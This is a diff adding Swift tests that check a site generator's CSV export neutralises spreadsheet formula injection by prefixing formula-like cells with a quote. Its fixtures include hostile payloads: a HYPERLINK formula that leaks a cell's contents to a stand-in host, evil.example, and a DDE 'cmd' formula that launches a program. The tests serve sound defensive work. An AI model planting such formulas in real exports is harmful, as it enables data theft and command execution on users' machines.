@@ -42,6 +42,48 @@ import TestSupport
         #expect(texts.count == json.count, "the CSV has a row for every quote in the JSON")
     }
 
+    /// OWASP "CSV injection": a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
+    /// runs as a formula in Excel or LibreOffice. Every such cell of the export comes out quoted
+    /// with a `'` in front, which spreadsheets show as text; JSON keeps the text as written.
+    @Test func formulaLikeCellsOfTheCSVExportOpenAsText() throws {
+        let formulas = [
+            "f1": (text: "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", speaker: "+1"),
+            "f2": (text: "-2+3", speaker: "@SUM(1,2)"),
+            "f3": (text: "@SUM(A1:A9)", speaker: "=cmd|' /C calc'!A0"),
+        ]
+        var files: [String: String] = [:]
+        for (id, quote) in formulas {
+            files["content/quotes/\(id).md"] =
+                "---\nspeaker: '\(quote.speaker.replacingOccurrences(of: "'", with: "''"))'\nprogramme: talent-match\nthemes: [hard-work]\nconsent: public\n---\n\(quote.text)\n"
+        }
+        let site = try FixtureSite(copying: "valid-site", files)
+        let output = SiteBuilds.temporaryOutput()
+        let outcome = SiteBuilds.build(site.root, into: output)
+        try #require(outcome.succeeded, "\(outcome.diagnostics)")
+        let csv = try #require(try SiteFiles(folder: output).text("data/quotes.csv"))
+        let reader = try CSVReader(string: csv, hasHeaderRow: true)
+        var rows: [String: [String]] = [:]
+        while let row = reader.next() { rows[row[0]] = row }
+        for (id, quote) in formulas {
+            let row = try #require(rows[id])
+            #expect(row[1] == "'" + quote.text)
+            #expect(row[2] == "'" + quote.speaker)
+        }
+        for row in rows.values {
+            for cell in row { #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.prefix(1)), "\(cell)") }
+        }
+        #expect(csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""))
+    }
+
+    /// Leading tabs and carriage returns cannot come from content (it is trimmed), but the one
+    /// writer of CSV fields neutralises them too; other fields are written as before.
+    @Test func csvTableNeutralisesEveryFormulaStart() {
+        var table = CSVTable()
+        table.append(row: ["\tTab", "\rCR", "-2", "+1", "@x", "=1", "plain", "a,b", "in-=side", ""])
+        #expect(String(decoding: table.bytes, as: UTF8.self)
+            == "\"'\tTab\",\"'\rCR\",\"'-2\",\"'+1\",\"'@x\",\"'=1\",plain,\"a,b\",in-=side,")
+    }
+
     /// The hand-written JSON writer prints what Foundation's encoder printed before it, byte for byte.
     @Test func jsonBytesMatchFoundationsEncoder() throws {
         struct Record: Encodable {
